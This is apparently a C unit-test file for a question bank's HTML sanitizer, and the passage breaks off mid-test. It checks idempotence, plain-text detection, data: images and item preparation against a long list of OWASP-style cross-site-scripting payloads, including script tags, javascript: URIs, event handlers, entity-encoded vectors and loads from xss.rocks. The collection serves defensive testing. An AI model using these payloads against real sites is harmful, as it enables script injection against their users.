/* bank_html: the rich-text sanitizer against hostile HTML (OWASP filter-evasion style),
 * plain-text detection and round trips, data: images, idempotence, bank_item_prepare. */
#include <criterion/criterion.h>
#include <sodium.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <time.h>

#include "../../bank/bank.h"
#include "../fuzz/html_safe.h"

static kc_arena *A;

static void setup(void)
{
    A = kc_arena_new(0);
    cr_assert_not_null(A);
}

static void teardown(void)
{
    kc_arena_free(A);
    A = NULL;
}

TestSuite(html, .init = setup, .fini = teardown);

static int REMOVED;

static char *san(const char *in, enum bank_text_kind kind)
{
    char *out = NULL;
    REMOVED = 0;
    cr_assert_eq(bank_html_sanitize(in, kind, A, &out, &REMOVED, NULL, NULL), 0, "in: %s", in);
    cr_assert_not_null(out);
    return out;
}

/* What every output must satisfy, whatever went in. */
static void check_safe(const char *in, const char *out)
{
    const char *why = html_unsafe(out);
    cr_expect_null(why, "unsafe output (%s) for %s: %s", why ? why : "", in, out);
    /* '<' is always escaped in text, so these can only be markup */
    cr_expect_null(strcasestr(out, "<script"), "in: %s", in);
    cr_expect_null(strcasestr(out, "<svg"), "in: %s", in);
    for (const char *p = strchr(out, '<'); p; p = strchr(p + 1, '<')) {
        int quoted = 0;
        for (const char *q = p; *q && (quoted || *q != '>'); q++) {
            if (*q == '"') quoted = !quoted;
            if (!quoted && q[0] == ' ' && (q[1] | 0x20) == 'o' && (q[2] | 0x20) == 'n')
                cr_expect_fail("event handler attribute in %s (from %s)", out, in);
            if (!strncasecmp(q, "javascript:", 11)) cr_expect_fail("javascript: in %s", out);
        }
    }
    char *again = NULL;
    cr_assert_eq(bank_html_sanitize(out, BANK_TEXT_AUTO, A, &again, NULL, NULL, NULL), 0);
    cr_expect_str_eq(again, out, "not idempotent for %s", in);
}

struct vec { const char *in, *out; };

/* Exact outputs: what is kept, what goes. */
static const struct vec HOSTILE[] = {
    {"<script>alert(1)</script>text", "text"},
    {"<SCRIPT>alert(1)</SCRIPT>x", "x"},
    {"<ScRiPt>alert(1)</sCrIpT>x", "x"},
    {"<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>after", "after"},
    {"<script\n>alert(1)</script\n>x", "x"},
    {"<scr<script>ipt>alert(1)</script>", "ipt&gt;alert(1)"},
    {"<p><script>document.write('<b>x</b>')</script>y</p>", "<p>y</p>"},
    {"<script>alert('</scr'+'ipt>')</script>z", "z"},
    {"<IMG SRC=\"javascript:alert('XSS');\">", ""},
    {"<IMG SRC=javascript:alert('XSS')>", ""},
    {"<IMG SRC=JaVaScRiPt:alert('XSS')>", ""},
    {"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>", ""},
    {"<img src=x onerror=alert(1)>", ""},
    {"<img src=\"media:fig1.png\" onerror=\"alert(1)\" alt=\"图1\">",
     "<img src=\"media:fig1.png\" alt=\"图1\">"},
    {"<img src=\"media:a.png\" width=\"100\" height=\"50px\" style=\"x\">",
     "<img src=\"media:a.png\" width=\"100\">"},
    {"<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">", ""},
    {"<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">", ""},
    {"<IMG SRC=\" &#14;  javascript:alert('XSS');\">", ""},
    {"<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
     ""},
    {"<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
     ""},
    {"<img src=\"http://evil.example/x.png\">", ""},
    {"<img src=\"//evil.example/x.png\">", ""},
    {"<img src=\"file:///etc/passwd\">", ""},
    {"<img src=\"media:../../etc/passwd\">", ""},
    {"<img src=\"media:a/b.png\">", ""},
    {"<img src=\"media:javascript:alert(1)\">", ""},
    {"<a href=\"media:javascript:x\">t</a>", "<a>t</a>"},
    {"<img src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", ""},
    {"<img dynsrc=\"javascript:alert(1)\" src=\"media:ok.png\">", "<img src=\"media:ok.png\">"},
    {"<a href=\"javascript:alert(1)\">click</a>", "<a>click</a>"},
    {"<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a>x</a>"},
    {"<a href=\"  javascript:alert(1)\">x</a>", "<a>x</a>"},
    {"<a href=\"vbscript:msgbox(1)\">x</a>", "<a>x</a>"},
    {"<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<a>x</a>"},
    {"<a href=\"https://example.com/\">x</a>", "<a>x</a>"},
    {"<a href=\"media:附件.pdf\" onclick=\"x()\" target=\"_blank\">附件</a>",
     "<a href=\"media:附件.pdf\">附件</a>"},
    {"<a xlink:href=\"javascript:alert(1)\">x</a>", "<a>x</a>"},
    {"<svg onload=alert(1)>inside svg</svg>after", "after"},
    {"<svg><script>alert(1)</script></svg>ok", "ok"},
    {"<iframe srcdoc=\"<script>alert(1)</script>\">if</iframe>ok", "ok"},
    {"<iframe src=\"javascript:alert(1)\"></iframe>ok", "ok"},
    {"<object data=\"javascript:alert(1)\">o</object>ok", "ok"},
    {"<embed src=\"x.swf\">ok", "ok"},
    {"<input value=\"v\" onfocus=alert(1) autofocus>in", "in"},
    {"<style>@import 'http://xss.rocks/xss.css';</style>styled", "styled"},
    {"<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
     "<ul><li>XSS</li></ul>"},
    {"<div style=\"width: expression(alert(1))\">exp</div>", "<div>exp</div>"},
    {"<p class=\"x\" id=\"y\" style=\"color:red\">c</p>", "<p>c</p>"},
    {"<b>unclosed <i>tags", "<b>unclosed <i>tags</i></b>"},
    {"<p>a<p>b", "<p>a</p><p>b</p>"},
    {"<b><i>misnested</b></i>", "<b><i>misnested</i></b>"},
    {"<!-- <script>alert(1)</script> --><p>x</p>", "<p>x</p>"},
    {"<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->x", "x"},
    {"<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>m", "m"},
    {"<base href=\"javascript:alert(1)//\">b", "b"},
    {"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">m", "m"},
    {"<link rel=stylesheet href=\"http://x/x.css\">l", "l"},
    {"<template><img src=x onerror=alert(1)></template>t", "t"},
    {"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", ""},
    {"<form action=\"javascript:alert(1)\"><input type=submit><button formaction=x>b</button></form>f",
     "f"},
    {"<textarea><script>alert(1)</script></textarea>t", "t"},
    {"<select><option>o</option></select>s", "s"},
    {"<img src=\"media:a.png\" alt=\"x&quot; onerror=&quot;alert(1)\">",
     "<img src=\"media:a.png\" alt=\"x&quot; onerror=&quot;alert(1)\">"},
    {"<img src=\"media:a.png\" alt='x\" onerror=\"alert(1)'>",
     "<img src=\"media:a.png\" alt=\"x&quot; onerror=&quot;alert(1)\">"},
    {"<img src=\"media:a.png\" srcset=\"javascript:alert(1) 1x\">", "<img src=\"media:a.png\">"},
    {"<table background=\"javascript:alert(1)\"><tr><td colspan=2 rowspan=\"x\" style=x>c</td></tr></table>",
     "<table><tr><td colspan=\"2\">c</td></tr></table>"},
    {"<body onload=alert(1)>b</body>", "b"},
    {"<html><head><title>t</title></head><body>x</body></html>", "x"},
    {"<unknown onclick=\"x()\">kept</unknown>", "kept"},
    {"<font color=red>f</font>", "f"},
    {"<h1>title</h1>", "title"},
    {"<div><div><span>deep</span></div></div>", "<div><div><span>deep</span></div></div>"},
    {"<br/><hr/><br />", "<br><hr><br>"},
    {"<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"},
    {"<p>a &amp; b &nbsp;c &#x4E2D;</p>", "<p>a &amp; b \xc2\xa0" "c 中</p>"},
    {"<meta charset=\"iso-8859-1\">中文", "中文"},
    {"<p>caf\xc3\xa9 \xff bad</p>", "<p>café \xef\xbf\xbd bad</p>"},
    {"<p>ctl\x01\x08 x</p>", "<p>ctl x</p>"},
    {"<p>c1&#x8f;&#x85 x&#13;y</p>", "<p>c1 x\ny</p>"},
    {"G &#x8f", "G "},
    {"<img src=\"media:x.png\"<script>alert(1)</script>", "<img src=\"media:x.png\">alert(1)"},
    {"<a href=\"media:x.pdf\"\">q</a>", "<a href=\"media:x.pdf\">q</a>"},
    {"<p>a<br> <br>b</p>", "<p>a<br> <br>b</p>"},
    {"<pre>x = 1\n  y = 2</pre>", "<pre>x = 1\n  y = 2</pre>"},
    /* an unwrapped element in between must not change how the output nests when read again */
    {"<table><tr><td>a<font><tr><td>b", "<table><tr><td>a</td></tr><tr><td>b</td></tr></table>"},
    {"<p>a<font><div>b</div></font>c</p>", "<p>a</p><div>b</div>c"},
    {"<ul><li>a<h3><li>b</h3></ul>", "<ul><li>a</li><li>b</li></ul>"},
};

Test(html, hostile_exact)
{
    for (size_t i = 0; i < sizeof HOSTILE / sizeof HOSTILE[0]; i++) {
        char *out = san(HOSTILE[i].in, BANK_TEXT_HTML);
        cr_expect_str_eq(out, HOSTILE[i].out, "in: %s", HOSTILE[i].in);
        check_safe(HOSTILE[i].in, out);
        out = san(HOSTILE[i].in, BANK_TEXT_AUTO);
        check_safe(HOSTILE[i].in, out);
    }
}

/* Vectors whose exact output matters less than that nothing survives. */
static const char *const MORE[] = {
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "\\\";alert('XSS');//",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>",
    "<HTML><BODY><?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" to=\"XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>\"></BODY></HTML>",
    "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT \"a='>'\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<A HREF=\"http://0x42.0x0000066.0x7.0x93/\">XSS</A>",
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"java\0script:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
    "<a href=\"media:x.pdf&quot; onclick=&quot;alert(1)\">x</a>",
    "<img src=\"media:x.png\" alt=\"<script>alert(1)</script>\">",
    "<img/src=\"media:x.png\"/onerror=alert(1)>",
    "<img src='media:x.png'onerror='alert(1)'>",
    "<p/onclick=alert(1)>p</p>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>m</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<b <script>alert(1)//</script>0</script></b>",
    "<div><p><b><i><u><s><table><tr><td><ul><li><ol><li><blockquote><pre><code>deep",
    "</p></div></b></i><p>stray ends",
    "<td>cell outside a table</td><tr><th>x",
    "<p\">quote in tag name</p>",
    "<a href=media:x onmouseover=alert(1)//>a</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img src=\"data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "a < b > c <script",
    "<",
    "<p",
    "<!--",
    "<a href=\"",
    "",
};

Test(html, hostile_safe)
{
    static const enum bank_text_kind kinds[] = {BANK_TEXT_AUTO, BANK_TEXT_HTML, BANK_TEXT_PLAIN};
    for (size_t i = 0; i < sizeof MORE / sizeof MORE[0]; i++)
        for (size_t k = 0; k < 3; k++) check_safe(MORE[i], san(MORE[i], kinds[k]));
    for (size_t i = 0; i < sizeof HOSTILE / sizeof HOSTILE[0]; i++)
        check_safe(HOSTILE[i].in, san(HOSTILE[i].in, BANK_TEXT_PLAIN));
}

Test(html, removed_counts)
{
    san("<p class=x onclick=y>a</p><script>b</script><!-- c -->", BANK_TEXT_HTML);
    cr_expect_eq(REMOVED, 4);       /* two attributes, the script, the comment */
    san("<img src=x onerror=y>", BANK_TEXT_HTML);
    cr_expect_eq(REMOVED, 3);       /* both attributes and the img itself */
    san("<p><b>clean</b></p>", BANK_TEXT_HTML);
    cr_expect_eq(REMOVED, 0);
    san("a <script> b", BANK_TEXT_PLAIN);
    cr_expect_eq(REMOVED, 0);
}

Test(html, auto_detection)
{
    static const struct vec plain[] = {
        {"若 a<b 且 b>c，则 a<c", "若 a&lt;b 且 b&gt;c，则 a&lt;c"},
        {"x < 5 && y > 3", "x &lt; 5 &amp;&amp; y &gt; 3"},
        {"I<O 接口", "I&lt;O 接口"},
        {"<unknown>tag</unknown>", "&lt;unknown&gt;tag&lt;/unknown&gt;"},
        {"AT&T \"quoted\"", "AT&amp;T &quot;quoted&quot;"},
        {"a <b 且", "a &lt;b 且"},
        {"1<2>0", "1&lt;2&gt;0"},
    };
    for (size_t i = 0; i < sizeof plain / sizeof plain[0]; i++) {
        char *out = san(plain[i].in, BANK_TEXT_AUTO);
        cr_expect_str_eq(out, plain[i].out, "in: %s", plain[i].in);
        cr_expect_eq(bank_html_is_plain(out), 1, "%s", out);
        cr_expect_str_eq(bank_html_to_text(out, A), plain[i].in);
        check_safe(plain[i].in, out);
    }
    static const struct vec html[] = {
        {"<p>段落</p>", "<p>段落</p>"},
        {"粗体</b>", "粗体"},
        {"一<br/>二", "一<br>二"},
        {"<img src=\"media:a.png\" alt=a>", "<img src=\"media:a.png\" alt=\"a\">"},
        {"<script>x</script>y", "y"},
        {"<table><tr><td>1</td></tr></table>", "<table><tr><td>1</td></tr></table>"},
        {"a &lt; b", "a &lt; b"},
        {"<B>upper</B>", "<b>upper</b>"},
    };
    for (size_t i = 0; i < sizeof html / sizeof html[0]; i++)
        cr_expect_str_eq(san(html[i].in, BANK_TEXT_AUTO), html[i].out, "in: %s", html[i].in);
    cr_expect_str_eq(san("<b>x</b>", BANK_TEXT_PLAIN), "&lt;b&gt;x&lt;/b&gt;");
    cr_expect_str_eq(san("plain", BANK_TEXT_HTML), "plain");
}

Test(html, plain_round_trip)
{
    static const char *const texts[] = {
        "第一行\n第二行",
        "windows\r\nline\r\nends",
        "  leading and   inner   spaces kept",
        "tabs\tinside\ta line",
        "blank\n\nline",
        "\nstarts with a break",
        "a<b 且 b>c",
        "x < 5 > 3 & \"q\" 'a'",
        "中文，全角　空格",
    };
    for (size_t i = 0; i < sizeof texts / sizeof texts[0]; i++) {
        for (int k = 0; k < 2; k++) {
            char *out = san(texts[i], k ? BANK_TEXT_PLAIN : BANK_TEXT_AUTO);
            cr_expect_eq(bank_html_is_plain(out), 1, "%s", out);
            char *back = bank_html_to_text(out, A);
            /* line ends come back as "\n" */
            char want[256];
            size_t n = 0;
            for (const char *p = texts[i]; *p; p++)
                if (!(p[0] == '\r' && p[1] == '\n')) want[n++] = *p;
            want[n] = 0;
            cr_expect_str_eq(back, want, "via %s", out);
            check_safe(texts[i], out);
        }
    }
    cr_expect_str_eq(san("a\nb\r\nc\rd", BANK_TEXT_PLAIN), "a<br>b<br>c<br>d");
    /* a character reference makes text HTML in BANK_TEXT_AUTO (sanitized plain text is
     * full of them); as plain text it stays literal */
    const char *ent = "entities &amp; &lt;b&gt; stay literal";
    cr_expect_str_eq(bank_html_to_text(san(ent, BANK_TEXT_PLAIN), A), ent);
    cr_expect_str_eq(bank_html_to_text(san(ent, BANK_TEXT_AUTO), A),
                     "entities & <b> stay literal");
    cr_expect_str_eq(bank_html_to_text(san("trailing\n\n", BANK_TEXT_PLAIN), A), "trailing");
}

Test(html, is_plain)
{
    cr_expect_eq(bank_html_is_plain("text"), 1);
    cr_expect_eq(bank_html_is_plain("a<br>b<br/>c<BR />d"), 1);
    cr_expect_eq(bank_html_is_plain("x &lt; y &amp; z"), 1);
    cr_expect_eq(bank_html_is_plain(""), 1);
    cr_expect_eq(bank_html_is_plain("a<b>x</b>"), 0);
    cr_expect_eq(bank_html_is_plain("<p>x</p>"), 0);
    cr_expect_eq(bank_html_is_plain("<img src=\"media:a.png\">"), 0);
    cr_expect_eq(bank_html_is_plain("</br>"), 0);
}

Test(html, to_text)
{
    static const struct vec v[] = {
        {"<p>a</p><p>b &amp; c</p>", "a\nb & c"},
        {"a<br>b<br>", "a\nb"},
        {"<ul><li>x</li><li>y</li></ul>", "x\ny"},
        {"<table><tr><td>1</td><td>2</td></tr><tr><td>3</td></tr></table>", "1\t2\n3"},
        {"<div>one</div>two", "one\ntwo"},
        {"x<p>y</p>z", "x\ny\nz"},
        {"&#x4E2D;&#25991;&nbsp;&quot;&lt;&gt;&apos;", "中文\xc2\xa0\"<>'"},
        {"&bogus; &amp &#;", "&bogus; &amp &#;"},
        {"<b>bold</b> <i>it</i>", "bold it"},
        {"<p>line\nwrapped</p>", "line wrapped"},
        {"<pre>a\n  b</pre>", "a\n  b"},
        {"<img src=\"media:a.png\" alt=\"图\">after", "after"},
        {"<p>a</p>\n<p>b</p>", "a\nb"},
        {"", ""},
    };
    for (size_t i = 0; i < sizeof v / sizeof v[0]; i++)
        cr_expect_str_eq(bank_html_to_text(v[i].in, A), v[i].out, "in: %s", v[i].in);
    cr_expect_null(bank_html_to_text(NULL, A));
}

static char *b64(const unsigned char *d, size_t n)
{
    size_t cap = sodium_base64_encoded_len(n, sodium_base64_VARIANT_ORIGINAL);
    char *s = kc_arena_alloc(A, cap);
    sodium_bin2base64(s, cap, d, n, sodium_base64_VARIANT_ORIGINAL);
    return s;
}

static const unsigned char PNG[] = {
    0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R',
    0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1f, 0x15, 0xc4, 0x89,
};
static const unsigned char GIF[] = {'G', 'I', 'F', '8', '9', 'a', 1, 0, 1, 0, 0, 0, 0, ';'};

Test(html, data_images)
{
    bank_media *m = NULL;
    int nm = 0, removed = 0;
    char *out;
    char *png = b64(PNG, sizeof PNG);
    char *in = kc_arena_printf(A,
        "<p><img src=\"data:image/png;base64,%s\" alt=\"图1\">"
        "<img src=\"DATA:image/PNG;base64,%s\"></p>", png, png);
    cr_assert_eq(bank_html_sanitize(in, BANK_TEXT_AUTO, A, &out, &removed, &m, &nm), 0);
    uint8_t h[32];
    crypto_hash_sha256(h, PNG, sizeof PNG);
    char hex[65];
    sodium_bin2hex(hex, sizeof hex, h, sizeof h);
    char *name = kc_arena_printf(A, "image-%.8s.png", hex);
    char *want = kc_arena_printf(A,
        "<p><img src=\"media:%s\" alt=\"图1\"><img src=\"media:%s\"></p>", name, name);
    cr_expect_str_eq(out, want);
    cr_assert_eq(nm, 1, "the same image twice is one media entry");
    cr_expect_str_eq(m[0].name, name);
    cr_expect_str_eq(m[0].mime, "image/png");
    cr_assert_eq(m[0].len, sizeof PNG);
    cr_expect_eq(memcmp(m[0].data, PNG, sizeof PNG), 0);
    cr_expect_eq(memcmp(m[0].sha256, h, 32), 0);
    cr_expect_eq(removed, 0);
    check_safe(in, out);

    /* a second image with line-wrapped base64 and no padding joins the list */
    char *gif = b64(GIF, sizeof GIF);
    size_t gl = strlen(gif);
    while (gl && gif[gl - 1] == '=') gif[--gl] = 0;
    char *wrapped = kc_arena_printf(A, "%.8s\n%s", gif, gif + 8);
    in = kc_arena_printf(A, "<img src=\"data:image/gif;base64,%s\">", wrapped);
    cr_assert_eq(bank_html_sanitize(in, BANK_TEXT_HTML, A, &out, &removed, &m, &nm), 0);
    cr_assert_eq(nm, 2);
    cr_expect_str_eq(m[1].mime, "image/gif");
    cr_expect_eq(m[1].len, sizeof GIF);
    cr_expect_str_eq(out, kc_arena_printf(A, "<img src=\"media:%s\">", m[1].name));
    cr_expect_eq(strncmp(m[1].name, "image-", 6), 0);
    cr_expect_str_eq(m[1].name + strlen(m[1].name) - 4, ".gif");

    /* declared type and magic bytes must agree; other data: types never become media */
    static const char *const bad[] = {"image/jpeg", "image/svg+xml", "text/html", "image/webp"};
    for (size_t i = 0; i < 4; i++) {
        in = kc_arena_printf(A, "<img src=\"data:%s;base64,%s\">x", bad[i], png);
        cr_assert_eq(bank_html_sanitize(in, BANK_TEXT_HTML, A, &out, NULL, &m, &nm), 0);
        cr_expect_str_eq(out, "x", "%s", bad[i]);
    }
    in = kc_arena_printf(A, "<img src=\"data:image/png;base64,%s!!\">x", png);
    cr_assert_eq(bank_html_sanitize(in, BANK_TEXT_HTML, A, &out, NULL, &m, &nm), 0);
    cr_expect_str_eq(out, "x");
    cr_expect_eq(nm, 2);

    /* without a media list there is nowhere to put it: the img goes */
    in = kc_arena_printf(A, "<img src=\"data:image/png;base64,%s\">y", png);
    cr_assert_eq(bank_html_sanitize(in, BANK_TEXT_HTML, A, &out, NULL, NULL, NULL), 0);
    cr_expect_str_eq(out, "y");
}

Test(html, idempotent)
{
    static const char *const texts[] = {
        "<p>a <b>b</b> <i>c</i></p>\n<ul>\n  <li>x</li>\n</ul>",
        "plain\nwith lines & <stuff>",
        "<table>\n<tr><td colspan=2>a</td></tr>\n</table> tail",
        "  <p>  spaced  </p>  ",
        "<pre>\n  code\n</pre>",
        "a<br>\n<br> b",
        "<p>x</p><br><p>y</p>",
        "</b>x<b>",
        "<li>loose</li> <li>items",
        "<img src=\"media:a.png\" alt=\"a&amp;b\" width=10>",
    };
    for (size_t i = 0; i < sizeof texts / sizeof texts[0]; i++)
        for (int k = 0; k < 2; k++) {
            char *once = san(texts[i], k ? BANK_TEXT_HTML : BANK_TEXT_AUTO);
            char *twice = san(once, k ? BANK_TEXT_HTML : BANK_TEXT_AUTO);
            cr_expect_str_eq(twice, once, "in: %s", texts[i]);
            cr_expect_eq(REMOVED, 0, "nothing to remove the second time: %s", once);
        }
}

Test(html, limits, .timeout = 20)
{
    /* deeper than 64 allowed tags: flattened, text kept */
    size_t n = 100;
    char *in = kc_arena_alloc(A, n * 3 + 2);
    for (size_t i = 0; i < n; i++) memcpy(in + i * 3, "<b>", 3);
    strcpy(in + n * 3, "x");
    char *out = san(in, BANK_TEXT_HTML);
    size_t opens = 0;
    for (const char *p = strstr(out, "<b>"); p; p = strstr(p + 1, "<b>")) opens++;
    cr_expect_eq(opens, 64);
    cr_expect_not_null(strstr(out, ">x</b>"));
    check_safe("100 x <b>", out);

    /* a hostile nesting that makes libxml2 quadratic is cut short */
    size_t nb = 200000, ni = 60000;
    char *big = malloc(nb * 3 + ni * 4 + 1);
    cr_assert_not_null(big);
    for (size_t i = 0; i < nb; i++) memcpy(big + i * 3, "<b>", 3);
    for (size_t i = 0; i < ni; i++) memcpy(big + nb * 3 + i * 4, "</i>", 4);
    big[nb * 3 + ni * 4] = 0;
    struct timespec t0, t1;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    out = san(big, BANK_TEXT_HTML);
    clock_gettime(CLOCK_MONOTONIC, &t1);
    free(big);
    double secs = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
    cr_expect_lt(secs, 5.0, "took %.1f s", secs);
    check_safe("deep <b>", out);

    /* more than 1 MiB of text is cut at 1 MiB, at a character boundary */
    size_t len = (size_t)3 << 20;
    char *huge = malloc(len + 1);
    cr_assert_not_null(huge);
    for (size_t i = 0; i + 3 <= len; i += 3) memcpy(huge + i, "中", 3);
    huge[len] = 0;
    out = san(huge, BANK_TEXT_PLAIN);
    free(huge);
    cr_expect_leq(strlen(out), (size_t)1 << 20);
    cr_expect_geq(strlen(out), ((size_t)1 << 20) - 3);
    cr_expect_eq(strlen(out) % 3, 0);
    cr_expect_eq(REMOVED, 1);

    char *none = (char *)"x";
    cr_expect_eq(bank_html_sanitize(NULL, BANK_TEXT_AUTO, A, &none, NULL, NULL, NULL), 0);
    cr_expect_null(none);
}

static bank_item composite(void)
{
    bank_item it;
    memset(&it, 0, sizeof it);
    it.type = BANK_COMPOSITE;
    it.stem = "<p onclick=\"x()\">案例：<script>steal()</script>某公司网络</p>";
    it.explanation = "see\nbelow";
    bank_item *c = kc_arena_alloc(A, 3 * sizeof *c);
    c[0].type = BANK_SINGLE;
    c[0].stem = "a<b 时选哪个？";
    c[0].n_options = 2;
    c[0].options[0] = "<b>甲</b><img src=x onerror=alert(1)>";
    c[0].options[1] = "乙\n丙";
    c[0].answer = "B";
    c[0].points_centi = 200;
    c[1].type = BANK_FILL;
    c[1].stem = "端口号为____";
    c[1].answer = "<b>80</b>|=443";
    c[1].points_centi = 150;
    c[2].type = BANK_SHORT;
    c[2].stem = "简述";
    c[2].answer = "<p>要点<iframe src=x></iframe></p>";
    c[2].points_centi = 650;
    it.n_children = 3;
    it.children = c;
    return it;
}

Test(html, prepare_composite)
{
    bank_item it = composite();
    int removed = 0;
    cr_assert_eq(bank_item_prepare(&it, BANK_TEXT_AUTO, A, &removed), 0);
    cr_expect_str_eq(it.stem, "<p>案例：某公司网络</p>");
    cr_expect_str_eq(it.explanation, "see<br>below");
    cr_expect_eq(it.points_centi, 1000);
    bank_item *c = it.children;
    cr_expect_str_eq(c[0].stem, "a&lt;b 时选哪个？");
    cr_expect_str_eq(c[0].options[0], "<b>甲</b>");
    cr_expect_str_eq(c[0].options[1], "乙<br>丙");
    cr_expect_str_eq(c[0].answer, "B");
    cr_expect_str_eq(c[1].answer, "<b>80</b>|=443", "the fill key is not rich text");
    cr_assert_eq(c[1].n_blanks, 2);
    cr_expect_eq(c[1].blanks[0].mode, BANK_BLANK_TEXT);
    cr_assert_eq(c[1].blanks[0].n_accept, 1);
    cr_expect_str_eq(c[1].blanks[0].accept[0], "<b>80</b>");
    cr_expect_eq(c[1].blanks[1].mode, BANK_BLANK_EXACT);
    cr_expect_str_eq(c[1].blanks[1].accept[0], "443");
    cr_expect_eq(c[0].n_blanks, 0);
    cr_expect_str_eq(c[2].answer, "<p>要点</p>");
    cr_expect_eq(removed, 6);   /* onclick, script; img + src + onerror; iframe */

    /* preparing what is prepared changes nothing */
    const char *stem = it.stem, *opt = c[0].options[1], *ans = c[2].answer;
    int again = 0;
    cr_assert_eq(bank_item_prepare(&it, BANK_TEXT_AUTO, A, &again), 0);
    cr_expect_str_eq(it.stem, stem);
    cr_expect_str_eq(c[0].options[1], opt);
    cr_expect_str_eq(c[0].stem, "a&lt;b 时选哪个？");
